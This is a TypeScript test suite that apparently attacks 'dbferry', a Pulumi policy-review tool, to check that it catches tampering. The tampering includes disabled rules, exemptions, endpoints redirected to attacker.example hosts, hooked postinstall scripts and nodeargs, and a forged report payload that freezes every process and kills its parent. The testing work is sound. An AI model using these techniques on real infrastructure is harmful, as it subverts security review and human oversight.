import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Attack } from "../../support/attack";
import { byChange, notFound, notRefused } from "./attack";
import { CLOSED, program, WORLD } from "./field";

const FIVE = {
  "NET-01": "disabled",
  "NET-02": "disabled",
  "NET-03": "disabled",
  "NET-04": "disabled",
  "NET-06": "disabled",
};

/** Stack of the program that never ends, by which its process is identified among those of other runs. */
const ENDLESS = `endless-${process.pid}`;

function isRunning(word: string): boolean {
  return readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)
    .some((name) => {
      try {
        return readFileSync(`/proc/${name}/cmdline`, "utf8").includes(word);
      } catch {
        return false;
      }
    });
}

export const JUDGEMENT: Attack[] = [
  byChange(
    "disables five rules and points an endpoint to another host",
    (field) => {
      field.write(field.change, "stacks/index.js", program(WORLD));
      field.edit("stacks/Pulumi.prod.yaml", ({ config }) => {
        config["dbferry:policies"].rules = FIVE;
        config["dbferry:clouds"].alicloud.endpoints.rds = "https://rds.attacker.example";
      });
    },
    (outcome) => [
      ...notRefused(
        outcome,
        ["endpoint", /clouds\.alicloud\.endpoints\.rds/],
        ...Object.keys(FIVE).map((id): [string, RegExp] => ["policy settings", new RegExp(`rules\\.${id}$`)]),
      ),
      ...notFound(outcome, "NET-01"),
      ...(outcome.markdown.includes("rds.attacker.example") ? [] : ["the other host is not shown"]),
    ],
  ),
  byChange(
    "adds an exemption for what it opens",
    (field) => {
      field.write(field.change, "stacks/index.js", program(WORLD));
      field.edit("stacks/Pulumi.prod.yaml", ({ config }) => {
        config["dbferry:policies"].exemptions = [
          { policy: "NET-01", resource: "*", reason: "it is fine", owner: "me", expires: "2099-01-01T00:00:00Z" },
        ];
      });
    },
    (outcome) => [...notRefused(outcome, ["exemption", /exemptions/]), ...notFound(outcome, "NET-01")],
  ),
  byChange(
    "hides another endpoint in the code",
    (field) =>
      field.write(
        field.change,
        "stacks/index.js",
        program(
          CLOSED,
          'const provider = new pulumi.ProviderResource("alicloud", "other", { region: "cn-hangzhou", protocol: "HTTP", endpoints: JSON.stringify([{ ecs: "ecs.attacker.example" }]) });',
        ),
      ),
    (outcome) => notRefused(outcome, ["endpoint", /endpoints\.0\.ecs/], ["endpoint", /protocol/]),
  ),
  byChange(
    "edits the policy pack",
    (field) => {
      field.write(field.change, "stacks/index.js", program(WORLD));
      field.write(
        field.change,
        "policies/dist/index.js",
        `require("fs").writeFileSync(${JSON.stringify(field.canary)}, "");`,
      );
    },
    (outcome) => [...notRefused(outcome, ["policy pack", /policies\/dist\/index\.js/]), ...notFound(outcome, "NET-01")],
  ),
  byChange(
    "edits the toolchain: scripts, lock file, packages, pipeline",
    (field) => {
      const bad = `require("fs").writeFileSync(${JSON.stringify(field.canary)}, "");`;
      field.write(field.change, "stacks/index.js", program(WORLD));
      field.write(
        field.change,
        "package.json",
        JSON.stringify({ name: "shop", scripts: { postinstall: `node -e '${bad}'` } }),
      );
      field.write(field.change, ".npmrc", "ignore-scripts=false\n");
      field.write(field.change, "package-lock.json", "{}");
      field.write(field.change, ".github/workflows/review.yml", "name: harmless\n");
      for (const folder of ["node_modules", "stacks/node_modules"]) {
        field.write(field.change, `${folder}/@pulumi/pulumi/cmd/run/index.js`, bad);
        field.write(field.change, `${folder}/@grpc/grpc-js/index.js`, bad);
      }
    },
    (outcome) => [
      ...notRefused(
        outcome,
        ["toolchain", /^package\.json$/],
        ["toolchain", /^package-lock\.json$/],
        ["toolchain", /^\.npmrc$/],
        ["toolchain", /^\.github\/workflows\/review\.yml$/],
        ["toolchain", /^stacks\/node_modules\//],
      ),
      ...notFound(outcome, "NET-01"),
    ],
  ),
  byChange(
    "allows itself everything in the review's settings",
    (field) => {
      field.write(field.change, "stacks/index.js", program(WORLD));
      field.write(
        field.change,
        "dbferry-review.yaml",
        "isolation: none\nallow: [{path: '**', why: mine}, {setting: '**', why: mine}]\n",
      );
    },
    (outcome) => [
      ...notRefused(outcome, ["settings of the review", /^dbferry-review\.yaml$/]),
      ...notFound(outcome, "NET-01"),
    ],
  ),
  byChange(
    "changes what Pulumi.yaml runs: node's options, the program's folder, a plugin of its own",
    (field) => {
      const bad = `require("fs").writeFileSync(${JSON.stringify(field.canary)}, "");`;
      field.write(field.change, "stacks/index.js", program(WORLD));
      field.write(field.change, "evil.js", bad);
      field.write(field.change, "plugin/pulumi-resource-alicloud", `#!/usr/bin/env node\n${bad}`);
      field.edit("Pulumi.yaml", (project) => {
        project.runtime.options.nodeargs = `--require ${field.change}/evil.js`;
        project.main = "../base/stacks";
        project.plugins = { providers: [{ name: "alicloud", path: "./plugin" }] };
      });
    },
    (outcome) => [
      ...notRefused(
        outcome,
        ["toolchain", /Pulumi\.yaml: runtime/],
        ["toolchain", /: main/],
        ["toolchain", /: plugins/],
      ),
      ...notFound(outcome, "NET-01"),
    ],
  ),
  byChange(
    "writes the report itself, prints a verdict, leaves a process behind and ends well",
    (field) =>
      field.write(
        field.change,
        "stacks/index.js",
        program(
          WORLD,
          `const fs = require("fs");
const fake = ${JSON.stringify(JSON.stringify({ name: "shop", verdict: "fine", at: "2026-01-01T00:00:00Z", stacks: [] }))};
const forge = 'for (const f of ' + JSON.stringify([${JSON.stringify(field.report)}, ${JSON.stringify(field.canary)}, ${JSON.stringify(`${field.base}/policies/dist/index.js`)}]) + ') try { require("fs").writeFileSync(f, ' + JSON.stringify(fake) + ') } catch {}';
eval(forge);
require("child_process").spawn(process.execPath, ["-e", "setInterval(() => {" + forge + "}, 20)"], { detached: true, stdio: "ignore" }).unref();
for (const pid of fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && Number(name) !== process.pid)) try { process.kill(Number(pid), "SIGSTOP"); } catch {}
try { process.kill(process.ppid, "SIGKILL"); } catch {}
console.log(fake);
process.on("exit", () => { process.exitCode = 0; });`,
        ),
      ),
    (outcome) => [...notRefused(outcome), ...notFound(outcome, "NET-01")],
  ),
  byChange(
    "ends before it registers anything",
    (field) => field.write(field.change, "stacks/index.js", "process.exit(0);"),
    ({ code, report }) =>
      code === 1 && report?.verdict === "broken" ? [] : [`exit code ${code}, verdict ${report?.verdict}`],
  ),
  byChange(
    "never ends",
    (field) => {
      field.write(field.change, "stacks/index.js", `${program(CLOSED)}setInterval(() => {}, 1000);`);
      for (const folder of [field.base, field.change])
        field.write(
          folder,
          `stacks/Pulumi.${ENDLESS}.yaml`,
          readFileSync(join(folder, "stacks/Pulumi.prod.yaml"), "utf8"),
        );
    },
    ({ code, report }) => [
      ...(code === 1 && report?.verdict === "broken" ? [] : [`exit code ${code}, verdict ${report?.verdict}`]),
      ...(isRunning(ENDLESS) ? ["its process outlives the review"] : []),
    ],
    ["--stack", ENDLESS, "--minutes", "0.25"],
  ),
  pluginDownload(),
];

/** A program names a server from which the engine would download a plugin, and run it outside the isolation. */
function pluginDownload(): Attack {
  return {
    family: "reviews",
    name: "has the engine download a plugin",
    async run() {
      let calls = 0;
      const server = createServer((_request, response) => {
        calls += 1;
        response.end("no");
      });
      await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      try {
        const attack = byChange(
          "",
          (field) =>
            field.write(
              field.change,
              "stacks/index.js",
              program(
                CLOSED,
                `new pulumi.CustomResource("evil:index:Thing", "x", {}, { version: "1.0.0", pluginDownloadURL: "${url}" });`,
              ),
            ),
          ({ code, report }) =>
            code === 1 && report?.verdict === "broken" ? [] : [`exit code ${code}, ${report?.verdict}`],
        );
        const result = await attack.run();
        return calls === 0 ? result : { ...result, held: false, detail: `${calls} downloads` };
      } finally {
        server.close();
      }
    },
  };
}
